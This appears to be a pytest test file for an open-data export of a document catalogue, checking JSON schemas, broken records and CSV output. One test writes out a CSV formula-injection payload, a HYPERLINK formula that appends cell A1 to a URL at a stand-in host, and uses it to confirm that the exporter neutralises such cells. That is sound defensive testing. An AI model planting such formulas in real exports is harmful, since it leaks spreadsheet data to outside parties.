"""Open data records: the schemas in the repository are valid JSON Schemas, and a broken document record, a
broken relation, a broken CSV row or a CSV column that names no field fails. The published files are checked
in tests/site/test_open_data_published.py."""
import copy

import jsonschema
import pytest

from scripts.open_data import records as open_data
from tests.open_data_checks import csv_rows, errors


def test_generated_schemas_are_valid_json_schemas():
    assert sorted(open_data.schemas()) == sorted(open_data.FILES.values())
    for schema in open_data.schemas().values():
        jsonschema.Draft202012Validator.check_schema(schema)


def schema(name):
    return jsonschema.Draft202012Validator(open_data.schemas()[name])


BROKEN_DOCUMENTS = {
    "impossible month": lambda d: d["date"].update(value="2021-13-01"),
    "unknown value that cites a source": lambda d: d["signer"].update(value=None),
    "known value without a source": lambda d: d["term"].update(source=[]),
    "unknown document type": lambda d: d["type"].update(value="thong-bao"),
    "missing English URL": lambda d: d["url"].pop("en"),
    "field not in the schema": lambda d: d.update(colour="red"),
    "issuer name without an issuer": lambda d: d["issuer"].update(value=None, source=[]),
    "English title missing": lambda d: d["title"].update(en=None),
}


@pytest.mark.parametrize("fault", BROKEN_DOCUMENTS)
def test_a_broken_document_record_fails_validation(catalogue, fault):
    data = open_data.documents_data(catalogue, "http://127.0.0.1:8000/")
    documents_schema = schema("documents.schema.json")
    assert errors(documents_schema, data) == []
    broken = copy.deepcopy(data)
    record = next(d for d in broken["documents"] if d["id"] == "ket-luan-21-kl-tw-2021")
    BROKEN_DOCUMENTS[fault](record)
    assert errors(documents_schema, broken) != []


def test_a_broken_relation_and_broken_csv_rows_fail_validation(catalogue):
    data = open_data.relations_data(catalogue, None)
    relations_schema = schema("relations.schema.json")
    assert errors(relations_schema, data) == []
    data["relations"][0]["type"]["value"] = "phan-doi"
    data["relations"][1]["source"] = []
    assert len(errors(relations_schema, data)) == 2
    header, rows = csv_rows(open_data.to_csv(open_data.documents_data(catalogue, None)["documents"],
                                             open_data.DOCUMENT_COLUMNS))
    row_schema = schema("documents.csv.schema.json")
    row = next(r for r in rows if r["id"] == "ket-luan-21-kl-tw-2021")
    assert errors(row_schema, row) == []
    assert errors(row_schema, dict(row, date="25/10/2021")) != []
    assert errors(row_schema, dict(row, date_source="")) != []  # a date with no source
    assert errors(row_schema, dict(row, signer_vi="", signer_en="")) != []  # a source for an unknown signer
    assert errors(row_schema, {k: v for k, v in row.items() if k != "url_en"}) != []


def test_csv_column_that_names_no_field_is_an_error(catalogue):
    record = open_data.documents_data(catalogue, None)["documents"][0]
    with pytest.raises(KeyError, match="colour_vi"):
        open_data.cell(record, "colour_vi")


def test_a_document_record_holds_every_field_of_the_document_block():
    """A field added to the front matter's `document:` block (scripts/catalogue/schema.py) must reach the open
    data: the record model (and so the JSON and CSV schemas) holds every field of the block but its relations,
    which relations.json publishes."""
    from scripts.catalogue.schema import DocumentBlock
    from scripts.open_data.models import DocumentRecord

    assert set(DocumentRecord.model_fields) == (set(DocumentBlock.model_fields) - {"relations"}) | {"id", "title", "url"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(catalogue, start):
    """CSV (formula) injection: a value beginning like a formula gets a leading quote in the CSV only."""
    data = copy.deepcopy(open_data.documents_data(catalogue, None))
    record = next(d for d in data["documents"] if d["id"] == "ket-luan-21-kl-tw-2021")
    hostile = f'{start}HYPERLINK("http://example.invalid/?x="&A1,"Bấm")'
    record["subject"]["value"]["vi"] = hostile
    header, rows = csv_rows(open_data.to_csv(data["documents"], open_data.DOCUMENT_COLUMNS))
    row = next(r for r in rows if r["id"] == "ket-luan-21-kl-tw-2021")
    assert row["subject_vi"] == "'" + hostile
    assert record["subject"]["value"]["vi"] == hostile  # the JSON keeps the value as it is
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())


def test_ordinary_csv_cells_are_left_alone(catalogue):
    header, rows = csv_rows(open_data.to_csv(open_data.documents_data(catalogue, None)["documents"],
                                             open_data.DOCUMENT_COLUMNS))
    row = next(r for r in rows if r["id"] == "ket-luan-21-kl-tw-2021")
    assert row["number"] == "21-KL/TW" and row["date"] == "2021-10-25"
    assert not any(value.startswith("'") for r in rows for value in r.values())
